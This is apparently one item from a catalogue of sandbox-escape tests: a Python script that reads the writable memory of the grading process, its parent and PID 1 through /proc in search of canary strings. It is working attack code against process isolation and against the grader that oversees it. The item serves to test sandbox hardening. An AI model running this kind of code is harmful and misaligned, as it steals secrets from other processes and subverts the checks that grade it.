# /// attack
# catalogue = "reading: /proc of the parent"
# layers = ["processes", "uid", "landlock"]
# aim = "canary"
# ///
# Reads the memory of the grading process, and of every process above its own.

# %%
import os
import re


def look_into(pid):
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in maps:
            if " rw-p " in line:
                start, end = (int(part, 16) for part in line.split()[0].split("-"))
                memory.seek(start)
                text = memory.read(min(end - start, 64 << 20))
                print(pid, set(re.findall(rb"canary[0-9a-f]{20}", text)))


for pid in {TARGET["pid"], os.getppid(), 1}:
    try:
        look_into(pid)
    except (OSError, ValueError, OverflowError) as error:
        print(pid, error)
